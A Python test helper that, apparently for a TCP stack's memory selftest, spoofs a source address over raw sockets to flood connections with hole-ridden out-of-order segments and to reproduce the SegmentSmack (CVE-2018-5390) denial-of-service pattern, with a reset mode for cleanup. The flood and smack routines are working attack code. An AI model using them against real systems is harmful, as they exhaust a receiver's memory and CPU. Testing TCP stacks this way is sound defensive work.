#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""ofo_flood.py - a raw-socket TCP peer that sends out-of-order data, for memory.sh.

  ofo_flood.py flood --dev DEV --src ADDR --dst ADDR:PORT -n CONNS
               --segs K --size BYTES --state FILE
  ofo_flood.py smack --dev DEV --src ADDR --dst ADDR:PORT --segs K
               [--state FILE]
  ofo_flood.py rst --src ADDR --dst ADDR:PORT --state FILE

The peer has no socket: it speaks from ADDR, an address its own stack
does not own (the receiver routes it to this namespace), so the native
stack here never answers for it.  It sends IPv4 segments through an
IPPROTO_RAW socket and reads the receiver's through an AF_PACKET socket
on DEV.

flood opens CONNS connections (ports 20000 and up, in batches) and
sends each K segments of BYTES bytes that all lie ahead of the first
unsent byte, with holes between them so none can coalesce; then a
second round of one such segment each (under memory pressure, that is
when a receiver prunes).  It prints "established N", the highest
KTCP memory of /proc/net/protocols it saw ("max_memory_pages P"), and
saves what "rst" needs in FILE.

smack (SegmentSmack, CVE-2018-5390) opens one connection and sends K
one-byte segments, every other sequence number, highest first, then
all the data in order (1000-byte segments) and a FIN; FILE, if given,
lets "rst" reset it.  It prints
"smack K segments in S s" and "filled BYTES".  Byte i of every stream
is i % 251 (ktcp_hold --read checks it).

rst resets every connection FILE lists, at its exact RCV.NXT.

Needs CAP_NET_RAW.  Exits 0, or 1 with a message on stderr.
"""

import argparse
import json
import select
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800
PACKET_OUTGOING = 4
FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10


def checksum(data):
    """The Internet checksum (RFC 1071) of data."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def pattern(offset, length):
    """Bytes offset..offset+length of every stream: i % 251."""
    return bytes((offset + i) % 251 for i in range(length))


class Peer:
    """One spoofed address talking to one listener."""

    def __init__(self, src, dst, dev=None):
        self.src = socket.inet_aton(src)
        addr, _, port = dst.rpartition(":")
        self.dst_text = addr
        self.dst = socket.inet_aton(addr)
        self.dport = int(port)
        self.tx = socket.socket(socket.AF_INET, socket.SOCK_RAW,
                                socket.IPPROTO_RAW)
        self.rx = None
        if dev:
            self.rx = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM,
                                    socket.htons(ETH_P_IP))
            self.rx.bind((dev, ETH_P_IP))
            self.rx.setblocking(False)

    def send(self, sport, seq, ack, flags, payload=b"", opts=b""):
        """Build and send one segment."""
        doff = (20 + len(opts)) // 4
        tcp = struct.pack("!HHIIBBHHH", sport, self.dport, seq & 0xFFFFFFFF,
                          ack & 0xFFFFFFFF, doff << 4, flags, 65535, 0,
                          0) + opts
        pseudo = self.src + self.dst + struct.pack(
            "!BBH", 0, socket.IPPROTO_TCP, len(tcp) + len(payload))
        csum = checksum(pseudo + tcp + payload)
        tcp = tcp[:16] + struct.pack("!H", csum) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp) + len(payload),
                         0, 0x4000, 64, socket.IPPROTO_TCP, 0, self.src,
                         self.dst)
        self.tx.sendto(ip + tcp + payload, (self.dst_text, 0))

    def synacks(self, want, timeout):
        """{sport: (irs, ack)} of the SYN-ACKs for the ports in want."""
        got = {}
        end = time.monotonic() + timeout
        while len(got) < len(want) and time.monotonic() < end:
            ready, _, _ = select.select([self.rx], [], [], 0.2)
            if not ready:
                continue
            while True:
                try:
                    pkt, addr = self.rx.recvfrom(65535)
                except BlockingIOError:
                    break
                if addr[2] == PACKET_OUTGOING or len(pkt) < 40:
                    continue
                ihl = (pkt[0] & 0x0F) * 4
                if pkt[9] != socket.IPPROTO_TCP or pkt[12:16] != self.dst:
                    continue
                sport, dport, seq, ack, _, flags = struct.unpack(
                    "!HHIIBB", pkt[ihl:ihl + 14])
                if sport == self.dport and dport in want and \
                        flags & (SYN | ACK) == SYN | ACK:
                    got[dport] = (seq, ack)
        return got


def handshake(peer, ports, isn):
    """Open connections from ports; {port: irs} of those that opened."""
    mss = struct.pack("!BBH", 2, 4, 1460)
    for port in ports:
        peer.send(port, isn, 0, SYN, opts=mss)
    opened = {}
    for port, (irs, ack) in peer.synacks(set(ports), 30).items():
        if ack != (isn + 1) & 0xFFFFFFFF:
            continue
        peer.send(port, isn + 1, irs + 1, ACK)
        opened[port] = irs
    return opened


def ktcp_memory():
    """KTCP's memory column of /proc/net/protocols, in pages."""
    with open("/proc/net/protocols", encoding="ascii") as f:
        for line in f:
            cols = line.split()
            if cols and cols[0] == "KTCP":
                return int(cols[3])
    return -1


def flood(args):
    """Many connections, only out-of-order data."""
    peer = Peer(args.src, args.dst, args.dev)
    isn = 1000000
    conns = {}
    peak = 0
    for base in range(20000, 20000 + args.n, 100):
        ports = list(range(base, min(base + 100, 20000 + args.n)))
        conns.update(handshake(peer, ports, isn))
    print("established %d" % len(conns), flush=True)
    # Segment k at offset 1 + 2 * k * size: the byte at offset 0 never
    # comes, and a hole of size bytes separates every two segments.
    for rnd in (range(args.segs), [args.segs]):
        for k in rnd:
            off = 1 + 2 * k * args.size
            data = pattern(off, args.size)
            for port, irs in conns.items():
                peer.send(port, isn + 1 + off, irs + 1, ACK | PSH, data)
            peak = max(peak, ktcp_memory())
        time.sleep(0.5)
        peak = max(peak, ktcp_memory())
    print("max_memory_pages %d" % peak, flush=True)
    with open(args.state, "w", encoding="ascii") as f:
        json.dump({"isn": isn, "conns": conns}, f)


def smack(args):
    """SegmentSmack: many one-byte segments into one connection."""
    peer = Peer(args.src, args.dst, args.dev)
    isn, port = 2000000, 30000
    conns = handshake(peer, [port], isn)
    if port not in conns:
        sys.exit("ofo_flood.py: smack: no connection")
    irs = conns[port]
    t0 = time.monotonic()
    for k in reversed(range(args.segs)):
        off = 2 * k + 1
        peer.send(port, isn + 1 + off, irs + 1, ACK, pattern(off, 1))
    print("smack %d segments in %.1f s" % (args.segs, time.monotonic() - t0),
          flush=True)
    total = 2 * args.segs
    for off in range(0, total, 1000):
        n = min(1000, total - off)
        peer.send(port, isn + 1 + off, irs + 1, ACK | PSH, pattern(off, n))
    peer.send(port, isn + 1 + total, irs + 1, ACK | FIN)
    print("filled %d" % total, flush=True)
    if args.state:
        # "rst" resets at isn + 1: RCV.NXT is past the data and the FIN.
        with open(args.state, "w", encoding="ascii") as f:
            json.dump({"isn": isn + total + 1, "conns": {port: irs}}, f)


def rst(args):
    """Reset what flood opened."""
    peer = Peer(args.src, args.dst)
    with open(args.state, encoding="ascii") as f:
        state = json.load(f)
    for port, irs in state["conns"].items():
        peer.send(int(port), state["isn"] + 1, irs + 1, RST | ACK)
    print("reset %d" % len(state["conns"]), flush=True)


def main():
    """Parse the command line and run one mode."""
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("mode", choices=("flood", "smack", "rst"))
    ap.add_argument("--dev")
    ap.add_argument("--src", required=True)
    ap.add_argument("--dst", required=True)
    ap.add_argument("-n", type=int, default=1)
    ap.add_argument("--segs", type=int, default=4)
    ap.add_argument("--size", type=int, default=1000)
    ap.add_argument("--state")
    args = ap.parse_args()
    try:
        {"flood": flood, "smack": smack, "rst": rst}[args.mode](args)
    except OSError as err:
        sys.exit("ofo_flood.py: %s" % err)


if __name__ == "__main__":
    main()
